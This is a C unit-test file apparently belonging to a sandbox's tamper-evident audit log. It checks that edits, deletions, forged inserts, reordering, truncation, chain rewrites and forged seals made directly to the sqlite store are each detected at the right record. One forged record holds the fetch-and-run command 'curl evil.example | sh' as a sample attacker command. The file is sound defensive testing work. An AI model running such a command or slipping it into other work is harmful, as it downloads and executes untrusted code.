/* Every kind of tampering with the store is detected and named, at the
 * right record. The attacker here edits the sqlite file directly, as
 * anyone with write access to it could. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/stat.h>
#include <cmocka.h>

#include "audit_testutil.h"

#define N 12	/* records per store; sealed at close */

static int setup(void **state)
{
	struct audit_tmp *t = calloc(1, sizeof(*t));

	audit_tmp_init(t);
	if (audit_fill(t, 1, N))
		return -1;
	*state = t;
	return 0;
}

static int teardown(void **state)
{
	audit_tmp_free(*state);
	free(*state);
	return 0;
}

static void expect(struct audit_tmp *t, enum sb_audit_problem p, uint64_t seq)
{
	struct sb_audit_report r;

	assert_int_equal(audit_verify(t, NULL, &r), p);
	assert_int_equal(r.problem_seq, seq);
}

static void test_intact(void **state)
{
	struct audit_tmp *t = *state;
	struct sb_audit_report r;
	uint8_t pk[SB_AUDIT_PK_LEN];

	audit_host_pk(t, pk);
	assert_int_equal(audit_verify(t, pk, &r), SB_AUDIT_INTACT);
	assert_int_equal(r.records, N);
	assert_int_equal(r.first_seq, 1);
	assert_int_equal(r.last_seq, N);
	assert_int_equal(r.sealed_seq, N);
	assert_int_equal(r.seals, 1);
	assert_true(r.pinned);
}

static void test_edit_field(void **state)
{
	struct audit_tmp *t = *state;

	audit_sql(t, "UPDATE records SET record = replace(record, '\"deny\"', '\"allow\"') WHERE seq = 5");
	expect(t, SB_AUDIT_EDITED, 5);
}

static void test_edit_chain_field(void **state)
{
	struct audit_tmp *t = *state;

	audit_sql(t, "UPDATE records SET prev_hash = hash WHERE seq = 7");
	expect(t, SB_AUDIT_EDITED, 7);
}

static void test_delete_row(void **state)
{
	struct audit_tmp *t = *state;

	audit_sql(t, "DELETE FROM records WHERE seq = 6");
	expect(t, SB_AUDIT_MISSING, 6);
}

static void test_delete_first_rows(void **state)
{
	struct audit_tmp *t = *state;

	audit_sql(t, "DELETE FROM records WHERE seq <= 2");
	expect(t, SB_AUDIT_MISSING, 1);
}

/* The strongest insert: a forged record with a correct hash, chained
 * after seq 3, with the later rows moved up to make room. */
static void test_insert_row(void **state)
{
	struct audit_tmp *t = *state;
	struct sb_err err = { { 0 } };
	uint8_t prev[SB_AUDIT_HASH_LEN], h[SB_AUDIT_HASH_LEN];
	char prev_hex[SB_AUDIT_HEX_LEN], hex[SB_AUDIT_HEX_LEN], *text, sql[4096];
	sqlite3 *db = audit_raw(t);
	sqlite3_stmt *st;
	cJSON *rec;

	sqlite3_prepare_v2(db, "SELECT record, hash FROM records WHERE seq = 4", -1, &st, NULL);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	rec = cJSON_Parse((const char *)sqlite3_column_text(st, 0));
	sqlite3_finalize(st);
	sqlite3_prepare_v2(db, "SELECT hash FROM records WHERE seq = 3", -1, &st, NULL);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	snprintf(prev_hex, sizeof(prev_hex), "%s", (const char *)sqlite3_column_text(st, 0));
	sqlite3_finalize(st);
	sqlite3_close(db);
	cJSON_ReplaceItemInObject(rec, "command", cJSON_CreateString("curl evil.example | sh"));
	cJSON_ReplaceItemInObject(rec, "decision", cJSON_CreateString("allow"));
	sb_audit_unhex(prev_hex, prev, sizeof(prev));
	assert_int_equal(sb_audit_chain_hash(prev, rec, false, h, &err), 0);
	sb_audit_hex(h, sizeof(h), hex);
	assert_int_equal(sb_audit_canon(rec, &text, NULL, &err), 0);
	cJSON_Delete(rec);
	audit_sql(t, "UPDATE records SET seq = -seq WHERE seq >= 4; UPDATE records SET seq = 1 - seq WHERE seq < 0");
	snprintf(sql, sizeof(sql), "INSERT INTO records (seq, record, prev_hash, hash) VALUES (4, '%s', '%s', '%s')",
		 text, prev_hex, hex);
	free(text);
	audit_sql(t, sql);
	expect(t, SB_AUDIT_INSERTED, 4);
}

/* Swap two rows' contents: the order of the table no longer matches. */
static void test_swap_rows(void **state)
{
	struct audit_tmp *t = *state;

	audit_sql(t, "UPDATE records SET seq = CASE seq WHEN 8 THEN -9 ELSE -8 END WHERE seq IN (8, 9);"
		     "UPDATE records SET seq = -seq WHERE seq < 0");
	expect(t, SB_AUDIT_REORDERED, 8);
}

static void test_truncate_after_seal(void **state)
{
	struct audit_tmp *t = *state;
	struct sb_audit_report r;

	audit_sql(t, "DELETE FROM records WHERE seq > 9");
	assert_int_equal(audit_verify(t, NULL, &r), SB_AUDIT_TRUNCATED);
	assert_int_equal(r.problem_seq, 10);
	assert_non_null(strstr(r.detail, "up to seq 12"));
}

/* Truncating the tail before a writer appends more: the old seal still
 * covers seq 12, whatever now sits at seq 10..12. */
static void test_truncate_then_append(void **state)
{
	struct audit_tmp *t = *state;

	audit_sql(t, "DELETE FROM records WHERE seq > 9");
	assert_int_equal(audit_fill(t, 100, 5), 0);
	expect(t, SB_AUDIT_REWRITTEN, 12);
}

/* Edit and recompute every hash after it: the chain links, but it no
 * longer ends in the head the seal signed. */
static void test_rewrite_chain(void **state)
{
	struct audit_tmp *t = *state;

	audit_sql(t, "UPDATE records SET record = replace(record, '\"deny\"', '\"allow\"') WHERE seq = 5");
	audit_rechain(t, 5);
	expect(t, SB_AUDIT_REWRITTEN, N);
}

/* ... and re-seal with the attacker's own key: only a pinned key (or
 * the mix of keys) gives it away. */
static void test_forged_seal(void **state)
{
	struct audit_tmp *t = *state;
	struct sb_audit_report r;
	uint8_t host[SB_AUDIT_PK_LEN], pk[32], sk[64];

	audit_host_pk(t, host);
	audit_sql(t, "UPDATE records SET record = replace(record, '\"deny\"', '\"allow\"') WHERE seq = 5");
	audit_rechain(t, 5);
	crypto_sign_keypair(pk, sk);
	audit_forge_seal(t, sk, pk);
	/* Unpinned, a complete forgery is self-consistent: the documented limit. */
	assert_int_equal(audit_verify(t, NULL, &r), SB_AUDIT_INTACT);
	assert_int_equal(audit_verify(t, host, &r), SB_AUDIT_KEY_MISMATCH);
	assert_int_equal(r.problem_seq, N);
}

static void test_mixed_keys(void **state)
{
	struct audit_tmp *t = *state;
	char keys2[400];

	/* A second writer seals with another key: unpinned verify refuses
	 * the mix, since a forger who rewrote the tail would leave one. */
	snprintf(keys2, sizeof(keys2), "%s/keys2", t->dir);
	setenv("SANDBOX_BPF_KEY_DIR", keys2, 1);
	assert_int_equal(audit_fill(t, 50, 2), 0);
	setenv("SANDBOX_BPF_KEY_DIR", t->keys, 1);
	expect(t, SB_AUDIT_KEY_MISMATCH, N + 2);
}

static void test_bad_signature(void **state)
{
	struct audit_tmp *t = *state;

	audit_sql(t, "UPDATE seals SET sig = substr(sig, 1, 10) || "
		     "CASE substr(sig, 11, 1) WHEN '0' THEN '1' ELSE '0' END || substr(sig, 12)");
	expect(t, SB_AUDIT_BAD_SIGNATURE, N);
}

static void test_seal_seq_edited(void **state)
{
	struct audit_tmp *t = *state;

	/* Moving a seal back to cover fewer records breaks its signature. */
	audit_sql(t, "UPDATE seals SET seq = 9");
	expect(t, SB_AUDIT_BAD_SIGNATURE, 9);
}

/* A restarted writer continues the chain from the stored head. */
static void test_restart_continues(void **state)
{
	struct audit_tmp *t = *state;
	struct sb_audit_report r;
	struct sb_err err = { { 0 } };
	struct sb_audit *a;
	uint64_t seq;

	assert_int_equal(sb_audit_open(t->dir, 0, &a, &err), 0);
	assert_int_equal(audit_test_append(a, "p", 99), 0);
	assert_int_equal(sb_audit_head(a, &seq, NULL, &err), 0);
	assert_int_equal(seq, N + 1);
	assert_int_equal(sb_audit_close(a, &err), 0);
	assert_int_equal(audit_verify(t, NULL, &r), SB_AUDIT_INTACT);
	assert_int_equal(r.records, N + 1);
	assert_int_equal(r.sealed_seq, N + 1);
	assert_int_equal(r.seals, 2);
}

/* Periodic seals: every 5 records, without closing. */
static void test_periodic_seal(void **state)
{
	struct audit_tmp *t = *state;
	struct sb_audit_report r;
	struct sb_err err = { { 0 } };
	struct sb_audit *a;
	int i;

	assert_int_equal(sb_audit_open(t->dir, 0, &a, &err), 0);
	sb_audit_set_intervals(a, 5, 0, 60);
	for (i = 0; i < 11; i++)
		assert_int_equal(audit_test_append(a, "p", 200 + i), 0);
	assert_int_equal(audit_verify(t, NULL, &r), SB_AUDIT_INTACT);
	assert_int_equal(r.seals, 3);			/* close of setup, +5, +10 */
	assert_int_equal(r.sealed_seq, N + 10);
	assert_int_equal(sb_audit_close(a, &err), 0);
	assert_int_equal(audit_verify(t, NULL, &r), SB_AUDIT_INTACT);
	assert_int_equal(r.sealed_seq, N + 11);
}

static void test_require_seal(void **state)
{
	struct audit_tmp *t = *state;
	struct sb_audit_verify_opts o = { .require_seal = true };
	struct sb_audit_report r;
	struct sb_err err = { { 0 } };
	struct sb_audit *a;

	assert_int_equal(sb_audit_open(t->dir, SB_AUDIT_NO_SEAL, &a, &err), 0);
	assert_int_equal(audit_test_append(a, "p", 300), 0);
	assert_int_equal(sb_audit_close(a, &err), 0);
	assert_int_equal(sb_audit_open(t->dir, SB_AUDIT_READONLY, &a, &err), 0);
	assert_int_equal(sb_audit_verify_store(a, &o, &r, &err), 0);
	assert_int_equal(r.problem, SB_AUDIT_UNSEALED);
	assert_int_equal(r.problem_seq, N + 1);
	o.require_seal = false;
	assert_int_equal(sb_audit_verify_store(a, &o, &r, &err), 0);
	assert_int_equal(r.problem, SB_AUDIT_INTACT);
	assert_int_equal(r.sealed_seq, N);
	sb_audit_close(a, &err);
}

static void test_key_file_refused(void **state)
{
	struct audit_tmp *t = *state;
	struct sb_audit_seal_info info;
	struct sb_err err = { { 0 } };
	struct sb_audit *a;
	char path[400];

	snprintf(path, sizeof(path), "%s/audit-ed25519.key", t->keys);
	assert_int_equal(chmod(path, 0640), 0);
	assert_int_equal(sb_audit_open(t->dir, 0, &a, &err), 0);
	assert_int_equal(audit_test_append(a, "p", 400), 0);
	assert_int_equal(sb_audit_seal(a, &info, &err), -ENOKEY);
	assert_non_null(strstr(err.msg, "group or others"));
	/* Close does not fail for want of a key: the next sealer covers it. */
	assert_int_equal(sb_audit_close(a, &err), 0);
	assert_int_equal(chmod(path, 0600), 0);
	assert_int_equal(sb_audit_open(t->dir, 0, &a, &err), 0);
	assert_int_equal(sb_audit_seal(a, &info, &err), 0);
	assert_true(info.created);
	assert_int_equal(info.seq, N + 1);
	assert_int_equal(sb_audit_seal(a, &info, &err), 0);
	assert_false(info.created);
	assert_int_equal(sb_audit_close(a, &err), 0);
}

static void test_store_symlink_refused(void **state)
{
	struct audit_tmp *t = *state;
	struct sb_err err = { { 0 } };
	struct sb_audit *a;
	char other[300], link_dir[300];

	snprintf(other, sizeof(other), "%s/other", t->dir);
	snprintf(link_dir, sizeof(link_dir), "%s/other/.sandbox", t->dir);
	assert_int_equal(mkdir(other, 0700), 0);
	assert_int_equal(symlink("/tmp", link_dir), 0);
	assert_int_equal(sb_audit_open(other, SB_AUDIT_CREATE, &a, &err), -ENOTDIR);
	assert_int_equal(sb_audit_open(t->dir, SB_AUDIT_READONLY, &a, &err), 0);
	assert_int_equal(audit_test_append(a, "p", 1), -EROFS);
	sb_audit_close(a, &err);
}

static int keep_counts(const cJSON *rec, void *arg)
{
	char **found = arg;

	free(*found);
	*found = cJSON_PrintUnformatted(cJSON_GetObjectItemCaseSensitive(rec, "counts"));
	return 0;
}

static void test_counters(void **state)
{
	struct audit_tmp *t = *state;
	struct sb_audit_query q = { .kind = "counters" };
	struct sb_err err = { { 0 } };
	struct sb_audit *a;
	char *found = NULL;

	assert_int_equal(sb_audit_open(t->dir, 0, &a, &err), 0);
	assert_int_equal(sb_audit_count(a, "kernel", "p", "allowed", "write", 3, &err), 0);
	assert_int_equal(sb_audit_count(a, "kernel", "p", "allowed", "write", 4, &err), 0);
	assert_int_equal(sb_audit_count(a, "kernel", "p", "allowed", "read", 1, &err), 0);
	assert_int_equal(sb_audit_count(a, "kernel", "q", "allowed", "shell", 2, &err), 0);
	assert_int_not_equal(sb_audit_count(a, "kernel", "p", "Allowed!", "read", 1, &err), 0);
	assert_int_equal(sb_audit_tick(a, &err), 0);	/* not due yet */
	assert_int_equal(sb_audit_query_run(a, &q, keep_counts, &found, &err), 0);
	assert_null(found);
	assert_int_equal(sb_audit_close(a, &err), 0);	/* flushes */
	assert_int_equal(sb_audit_open(t->dir, SB_AUDIT_READONLY, &a, &err), 0);
	q.f.sandbox = "p";
	assert_int_equal(sb_audit_query_run(a, &q, keep_counts, &found, &err), 0);
	assert_non_null(found);
	assert_string_equal(found, "{\"allowed\":{\"read\":1,\"write\":7}}");
	sb_audit_close(a, &err);
	free(found);
}

int main(void)
{
#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
	const struct CMUnitTest tests[] = {
		T(test_intact),		    T(test_edit_field),		 T(test_edit_chain_field),
		T(test_delete_row),	    T(test_delete_first_rows),	 T(test_insert_row),
		T(test_swap_rows),	    T(test_truncate_after_seal), T(test_truncate_then_append),
		T(test_rewrite_chain),	    T(test_forged_seal),	 T(test_mixed_keys),
		T(test_bad_signature),	    T(test_seal_seq_edited),	 T(test_restart_continues),
		T(test_periodic_seal),	    T(test_require_seal),	 T(test_key_file_refused),
		T(test_store_symlink_refused), T(test_counters),
	};

	return cmocka_run_group_tests_name("audit_tamper", tests, NULL, NULL);
}
